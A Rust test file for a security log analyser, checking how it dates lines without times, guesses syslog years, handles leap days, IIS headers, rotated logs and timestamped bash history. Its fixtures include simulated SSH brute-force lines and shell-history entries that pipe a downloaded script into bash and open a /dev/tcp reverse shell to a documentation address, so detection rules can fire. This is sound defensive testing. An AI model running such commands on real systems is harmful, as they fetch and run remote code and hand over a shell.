//! Lines without a time, lines that only date or name others, and times that
//! can be read in several ways: what a run makes of them.

use std::fmt::Write as _;

use crate::program::Home;

fn guesses(n: usize, stamp: &str) -> String {
    let mut out = String::new();
    for i in 0..n {
        let _ = writeln!(out, "{stamp}web1 sshd[{}]: Failed password for root from 203.0.113.9 port {i} ssh2", 100 + i);
    }
    out
}

#[test]
fn lines_without_any_time_are_in_no_window() {
    let home = Home::new();
    let log = home.write("a.log", guesses(100, ""));
    let (ran, doc) = home.summary(&["--no-store", &log, "--alerts", "al", "--events", "ev"]);
    assert_eq!((&doc["records"], &doc["without_time"], &doc["alerts"]), (&100.into(), &100.into(), &0.into()), "{doc}");
    assert!(doc["not_correlated"].as_u64().unwrap() >= 100);
    assert!(doc["first_event"].is_null(), "{doc}");
    assert!(home.objects("ev").iter().all(|e| e["time_quality"] == "unknown"));
    assert!(ran.err.is_empty() || !ran.err.contains("panicked"));
    // The same after a line with a time: a few lines may belong to it, a whole log does not.
    let log = home.write("b.log", format!("Mar  2 09:00:00 web1 sshd[1]: Server listening\n{}", guesses(1000, "")));
    let (_, doc) = home.summary(&["--no-store", &log]);
    assert_eq!((&doc["carried_times"], &doc["without_time"]), (&256.into(), &744.into()), "{doc}");
    // Before the first time of a log stands what belongs to it.
    let log = home.write("c.log", format!("-- started --\n{}", guesses(20, "Mar  2 09:00:00 ")));
    let (_, doc) = home.summary(&["--no-store", &log]);
    assert_eq!((&doc["carried_times"], &doc["without_time"]), (&1.into(), &0.into()), "{doc}");
    assert!(doc["alerts"].as_u64().unwrap() > 0);
}

#[test]
fn a_year_makes_no_time_for_lines_without_one() {
    let home = Home::new();
    let log = home.write("h/.bash_history", "ls\ncurl http://192.0.2.1/x.sh | bash\nid\n");
    let run = |year: &[&str]| {
        let args = [&["--no-store", &*log, "--events", "ev", "--alerts", "al"], year].concat();
        let (_, doc) = home.summary(&args);
        assert_eq!(doc["without_time"], 3, "{doc}");
        (home.objects("ev"), home.objects("al"))
    };
    let (events, alerts) = run(&[]);
    assert_eq!(events[1]["event_type"], "process_start");
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert!(alerts[0]["message"].as_str().unwrap().contains("time not known"), "{}", alerts[0]);
    assert_eq!(run(&["--year", "2019"]).1, alerts, "the year of others dates nothing");
    // Written at another time, read without what was remembered: the same alert.
    let other = Home::new();
    let copy = other.write("h/.bash_history", home.read("h/.bash_history"));
    let file = std::fs::File::options().append(true).open(&copy).unwrap();
    file.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000)).unwrap();
    other.summary(&["--no-store", &copy, "--alerts", "al"]);
    assert_eq!(other.objects("al")[0]["id"], alerts[0]["id"]);
}

#[test]
fn commands_of_a_history_have_the_time_before_them() {
    let home = Home::new();
    let log = home.write(
        "root/.bash_history",
        "#1700000000\nwhoami\n#1700000100\ncurl -s http://192.0.2.1/x | sudo bash\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n",
    );
    let (_, doc) = home.summary(&["--no-store", &log, "--events", "ev", "--alerts", "al"]);
    assert_eq!((&doc["records"], &doc["header_lines"], &doc["lines"]), (&3.into(), &2.into(), &5.into()), "{doc}");
    let events = home.objects("ev");
    assert_eq!(events.len(), 3, "headers are no events");
    assert_eq!((&events[2]["timestamp"], &events[2]["user"]), (&"2023-11-14T22:15:00Z".into(), &"root".into()));
    let rules: Vec<_> = home.objects("al").iter().map(|a| a["rule"].as_str().unwrap().to_owned()).collect();
    assert!(rules.len() >= 2, "{rules:?}");
}

#[test]
fn header_lines_are_counted_apart() {
    let home = Home::new();
    let header = "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2026-03-02 09:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\n";
    let line = "2026-03-02 09:00:01 192.0.2.1 GET /a - 443 - 198.51.100.7 curl/8 200\n";
    let log = home.write("u_ex.log", format!("{header}{line}{header}{line}{line}"));
    let (_, doc) = home.summary(&["--no-store", &log, "--events", "ev"]);
    assert_eq!((&doc["records"], &doc["parsed"], &doc["raw"]), (&3.into(), &3.into(), &0.into()), "{doc}");
    assert_eq!(
        (&doc["header_lines"], &doc["lines"], &doc["inputs"][0]["header_lines"]),
        (&8.into(), &11.into(), &8.into())
    );
    assert_eq!(home.objects("ev").len(), 3);
    let (_, doc) = home.summary(&["--no-store", &log, "--filter", "src_ip=192.0.2.200"]);
    assert_eq!((&doc["filtered"], &doc["header_lines"]), (&3.into(), &8.into()), "{doc}");
}

#[test]
fn a_range_of_time_leaves_out_what_has_none() {
    let home = Home::new();
    let timed = guesses(3, "Mar  2 09:00:00 ");
    let log = home.write("a.log", format!("{timed}{}", guesses(300, "")));
    let (_, doc) = home.summary(&["--no-store", "--year", "2026", "--from", "2026-01-01", &log, "--events", "ev"]);
    assert_eq!((&doc["records"], &doc["filtered"]), (&303.into(), &44.into()), "{doc}");
    assert_eq!(home.objects("ev").len(), 259);
}

#[test]
fn a_leap_day_in_a_given_year_that_has_none_is_told() {
    let home = Home::new();
    let log = home.write("a.log", guesses(3, "Feb 29 09:00:00 ") + &guesses(2, "Mar  1 09:00:00 "));
    let (_, doc) = home.summary(&["--no-store", &log, "--year", "2023", "--events", "ev"]);
    let times: Vec<_> = home.objects("ev").iter().map(|e| e["timestamp"].as_str().unwrap().to_owned()).collect();
    assert_eq!((&times[0][..10], &times[4][..10]), ("2020-02-29", "2023-03-01"));
    assert_eq!(doc["inputs"][0]["other_year"], 3, "{doc}");
    home.run(&["replay", "--no-store", &log, "--year", "2023"]).says(0, &["3 records are of 29 February"]);
    let (_, doc) = home.summary(&["--no-store", &log, "--year", "2024"]);
    assert_eq!(doc["inputs"][0]["other_year"], 0, "{doc}");
}

#[test]
fn a_given_year_is_that_of_the_first_line() {
    let home = Home::new();
    let times = |days: &[&str]| {
        let log: String = days.iter().map(|d| guesses(1, &format!("{d} 12:00:00 "))).collect();
        let log = home.write("y.log", log);
        home.summary(&["--no-store", "--year", "2026", &log, "--events", "ev"]);
        let date = |e: &serde_json::Value| e["timestamp"].as_str().unwrap().get(..10).unwrap().to_owned();
        home.objects("ev").iter().map(date).collect::<Vec<_>>()
    };
    let new_year = times(&["Dec 30", "Dec 31", "Jan  1", "Jan  3"]);
    assert_eq!(new_year, ["2026-12-30", "2026-12-31", "2027-01-01", "2027-01-03"]);
    assert_eq!(times(&["Jan  1", "Jun  1", "Dec 31"]), ["2026-01-01", "2026-06-01", "2026-12-31"]);
    // The last of the old year came late.
    let late = times(&["Jan  1", "Dec 31", "Jan  1"]);
    assert!(late.contains(&"2025-12-31".to_owned()) && !late.contains(&"2026-12-31".to_owned()), "{late:?}");
}

#[test]
fn the_parts_of_a_rotated_log_are_dated_as_one() {
    let home = Home::new();
    let old = home.write("a.log.2", guesses(2, "Nov 30 09:00:00 ") + &guesses(2, "Dec 20 10:00:00 "));
    let mid = home.write("a.log.1", guesses(2, "Dec 20 10:00:05 ") + &guesses(2, "Dec 31 23:59:59 "));
    let new = home.write("a.log", guesses(2, "Jan  1 00:00:01 ") + &guesses(2, "Feb  1 00:00:01 "));
    let late = home.write("b.log", guesses(1, "Jan  1 00:00:01 "));
    let years = |args: &[&str]| {
        home.summary(&[&["--no-store", "--events", "ev"], args].concat());
        let mut all: Vec<(String, String)> = (home.objects("ev").iter())
            .map(|e| (e["file"].as_str().unwrap().to_owned(), e["timestamp"].as_str().unwrap()[..7].to_owned()))
            .collect();
        all.sort();
        all.dedup();
        all
    };
    let is = |file: &str, month: &str| (file.to_owned(), month.to_owned());
    // The year of the oldest part's first record, in whatever order they are named.
    for args in [[&*new, &*old, &*mid, "--year", "2023"], [&*old, &*mid, &*new, "--year", "2023"]] {
        let want =
            [is(&new, "2024-01"), is(&new, "2024-02"), is(&mid, "2023-12"), is(&old, "2023-11"), is(&old, "2023-12")];
        assert_eq!(years(&args), want);
    }
    // Another log is dated by itself.
    assert_eq!(years(&[&mid, &late, "--year", "2023"]), [is(&mid, "2023-12"), is(&late, "2023-01")]);
    assert_eq!(years(&[&new, "--year", "2024"]), [is(&new, "2024-01"), is(&new, "2024-02")]);
    // Without a year: a part that was written anew is of no later time than the one after it.
    let touch = |path: &str, time: &str| {
        let t = seconds_of(time);
        let file = std::fs::File::options().append(true).open(path).unwrap();
        file.set_modified(std::time::UNIX_EPOCH + std::time::Duration::from_secs(t)).unwrap();
    };
    let home = Home::new();
    let old = home.write("a.log.1", guesses(2, "Dec  1 10:00:05 "));
    let new = home.write("a.log", guesses(2, "Jan  2 00:00:01 "));
    for path in [&old, &new] {
        touch(path, "2024-12-24");
    }
    home.summary(&["--no-store", "--events", "ev", &old, &new]);
    let months: Vec<_> = home.objects("ev").iter().map(|e| e["timestamp"].as_str().unwrap()[..7].to_owned()).collect();
    assert_eq!(months, ["2023-12", "2023-12", "2024-01", "2024-01"]);
}

/// Seconds since 1970 of a day.
fn seconds_of(day: &str) -> u64 {
    let t = secstream::event::Ts::parse_rfc3339(&format!("{day}T00:00:00Z")).unwrap();
    u64::try_from(t.secs()).unwrap()
}
